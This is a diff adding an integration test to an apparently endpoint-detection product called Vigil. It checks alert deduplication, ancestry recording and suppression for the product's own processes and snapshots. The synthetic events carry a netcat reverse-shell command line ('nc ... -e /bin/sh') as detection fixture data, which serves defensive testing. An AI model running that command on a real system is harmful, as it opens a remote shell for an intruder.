@@ -125,3 +125,37 @@ test('rules: a broken upload is refused with its error; a good one detects, can 
   assert.equal((await api('DELETE', `/api/v1/rules/${id}`)).status, 200);
   assert.equal((await api('GET', `/api/v1/rules/${id}`)).status, 404);
 });
+
+test('one alert per rule and process: a process that matches again is a repeat; it carries the process and its ancestors; Vigil\'s own processes and start-up snapshots raise nothing', async () => {
+  const [shell, nc] = t.agent.syntheticEvents(2);
+  shell.process = { ...shell.process!, pid: 4100, executable: '/bin/bash', name: 'bash', args: ['bash', '-i'], command_line: 'bash -i', entity_id: 'ent-shell', start: shell['@timestamp'] };
+  delete shell.process.parent;
+  shell.user = { id: '1000', name: 'jim' };
+  nc.process = { ...nc.process!, pid: 4101, ppid: 4100, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '10.1.1.1', '9', '-e', '/bin/sh'],
+    command_line: 'nc 10.1.1.1 9 -e /bin/sh', entity_id: 'ent-nc', start: nc['@timestamp'], parent: { pid: 4100, entity_id: 'ent-shell', executable: '/bin/bash' } };
+  nc.user = { id: '1000', name: 'jim' };
+  // The same process execs the same command twice more (a new event each time: a repeat, not a re-delivery).
+  const again = (id: string) => ({ ...structuredClone(nc), event: { ...nc.event, id } });
+  await t.agent.send([shell, nc, again(`${nc.event.id.slice(0, -4)}aaa1`), again(`${nc.event.id.slice(0, -4)}aaa2`)]);
+  const alert = await eventually(async () => {
+    const found = (await alertsFor(nc.event.id))[0];
+    return found?.occurrences === 3 ? found : undefined;
+  }, 'one alert with three occurrences');
+  const all = (await api('GET', '/api/v1/alerts?limit=1000')).body.alerts.filter((a: any) => a.process_entity_id === 'ent-nc');
+  assert.equal(all.length, 1, 'the matches of one process are one alert');
+  const got = (await api('GET', `/api/v1/alerts/${alert.id}`)).body;
+  assert.equal(got.process.entity_id, 'ent-nc');
+  assert.equal(got.process.command_line, 'nc 10.1.1.1 9 -e /bin/sh');
+  assert.equal(got.process.user_name, 'jim');
+  assert.deepEqual(got.ancestors.map((a: any) => [a.entity_id, a.executable]), [['ent-shell', '/bin/bash']]);
+
+  const [own, snapshot] = t.agent.syntheticEvents(2);
+  for (const [e, entity] of [[own, 'ent-own'], [snapshot, 'ent-snap']] as const) {
+    e.process = { ...e.process!, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '10.1.1.1', '9', '-e', '/bin/sh'], command_line: 'nc 10.1.1.1 9 -e /bin/sh', entity_id: entity };
+  }
+  own.labels = { 'vigil.self': 'true' };
+  snapshot.event.action = 'snapshot';
+  await t.agent.send([own, snapshot]);
+  await new Promise((r) => setTimeout(r, 1500));
+  assert.deepEqual([...await alertsFor(own.event.id), ...await alertsFor(snapshot.event.id)], []);
+});
